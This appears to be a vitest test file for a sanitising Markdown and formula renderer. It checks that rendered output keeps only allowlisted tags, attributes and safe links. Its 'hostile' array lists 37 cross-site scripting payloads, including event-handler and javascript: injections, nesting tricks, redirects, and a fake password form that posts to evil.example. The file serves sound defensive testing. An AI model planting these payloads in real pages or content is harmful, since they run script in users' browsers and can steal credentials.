// @vitest-environment jsdom
import { beforeAll, expect, test } from "vitest";
import { renderMarkdown } from "./render";
import { sanitizeFormula } from "./sanitize";
import { typeset } from "./typeset";

let box: HTMLElement;
beforeAll(() => {
  box = document.createElement("div");
});
function shown(source: string): HTMLElement {
  box.innerHTML = renderMarkdown(source);
  return box;
}

// What others have got past sanitisers and Markdown parsers with, and plain attempts.
const hostile = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#x09;script:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox)",
  "[x](//evil.example)",
  "![x](javascript:alert(1))",
  "![x](https://evil.example/track.png)",
  '![x](https://evil.example/a.png "t" onerror="alert(1))',
  "<javascript:alert(1)>",
  "</textarea><script>alert(1)</script>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
  "<a href='https://ok.example' onclick='alert(1)' style='position:fixed;inset:0'>x</a>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<details open ontoggle=alert(1)>",
  "<base href=https://evil.example>",
  "<link rel=stylesheet href=https://evil.example/a.css>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<object data=https://evil.example></object><embed src=https://evil.example>",
  "<video src=https://evil.example/a.mp4 autoplay></video>",
  "<style>@import 'https://evil.example/a.css'</style>",
  "```html\"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
  "```x\" onmouseover=\"alert(1)\n1\n```",
  "| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:1) |",
  "$<img src=x onerror=alert(1)>$ and $$</pre><script>alert(1)</script>$$",
  "[a]: javascript:alert(1)\n\n[a]",
  "<x-y onfocus=alert(1) tabindex=1 autofocus>",
  "- [x] <input onfocus=alert(1) autofocus>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "[x](https://ok.example/\"onmouseover=\"alert(1))",
];

const allowed_tags = new Set(["A", "BLOCKQUOTE", "BR", "CODE", "DEL", "EM", "H1", "H2", "H3", "H4", "H5", "H6", "HR", "LI", "OL", "P", "PRE", "SPAN", "STRONG", "SUB", "SUP", "TABLE", "TBODY", "TD", "TH", "THEAD", "TR", "UL"]);
const allowed_attributes = new Set(["href", "title", "class", "start", "align", "target", "rel"]);

test("whatever a model writes, only prose comes out", () => {
  expect(hostile.length).toBe(37);
  for (const source of hostile) {
    for (const element of shown(source).querySelectorAll("*")) {
      expect(allowed_tags, source).toContain(element.tagName);
      for (const { name, value } of element.attributes) {
        expect(allowed_attributes, source).toContain(name);
        if (name === "href") expect(value, source).toMatch(/^(https?:\/\/|mailto:)/);
      }
    }
  }
});

test("HTML is shown as it was written", () => {
  expect(shown("<b>not bold</b> <script>x</script>").textContent!.trim()).toBe("<b>not bold</b> <script>x</script>");
});

test("a link opens elsewhere and tells nothing of where it was", () => {
  const link = shown("[a](https://ok.example/?q=1&r=2)").querySelector("a")!;
  expect(link.getAttribute("href")).toBe("https://ok.example/?q=1&r=2");
  expect([link.target, link.rel]).toEqual(["_blank", "noopener noreferrer"]);
  expect(shown("[a](mailto:ada@example.org)").querySelector("a")!.href).toBe("mailto:ada@example.org");
});

test("an image is its description and its address, and nothing is loaded", () => {
  expect(shown("![a cat](https://evil.example/cat.png)").textContent!.trim()).toBe("[image: a cat — https://evil.example/cat.png]");
});

test("tables, tasks and code are what they are", () => {
  expect(shown("| a | b |\n|--:|---|\n| 1 | 2 |").querySelectorAll("td").length).toBe(2);
  expect(shown("| a |\n|--:|\n| 1 |").querySelector("td")!.align).toBe("right");
  expect(shown("- [x] done\n- [ ] not").textContent).toMatch(/☑ done[\s\S]*☐ not/);
  expect(shown("- a\n  ```js\n  1 < 2\n  ```").querySelector("code.language-js")!.textContent!.trim()).toBe("1 < 2");
});

test("formulas are found, and money is not one", () => {
  const formulas = (source: string): string[] => [...shown(source).querySelectorAll("[class^=language-math]")].map((each) => each.textContent!);
  expect(formulas("so $a_1 < b$ and \\(x^2\\) hold")).toEqual(["a_1 < b", "x^2"]);
  expect(formulas("$$\n\\frac{1}{2}\n$$")).toEqual(["\\frac{1}{2}"]);
  expect(formulas("\\[ a * b * c \\]")).toEqual(["a * b * c"]);
  expect(formulas("it costs $5 or $10 today, `$x$` is code")).toEqual([]);
});

test("a formula becomes MathML without its source, links or styles", async () => {
  const html = await typeset("\\frac{a}{b}", true);
  expect(html).toContain("<mfrac>");
  expect(html).not.toMatch(/annotation|style=|frac\{/);
  expect(await typeset("\\href{javascript:alert(1)}{x} \\url{javascript:1} \\includegraphics{https://evil.example/a.png}", false)).not.toMatch(/href=|src=|<img|<a /);
  expect(await typeset("\\frac{", true)).toBeNull();
  expect(sanitizeFormula("<math><mi href='javascript:1' onclick='x'>x</mi><script>1</script></math>")).toBe("<math><mi>x</mi></math>");
});
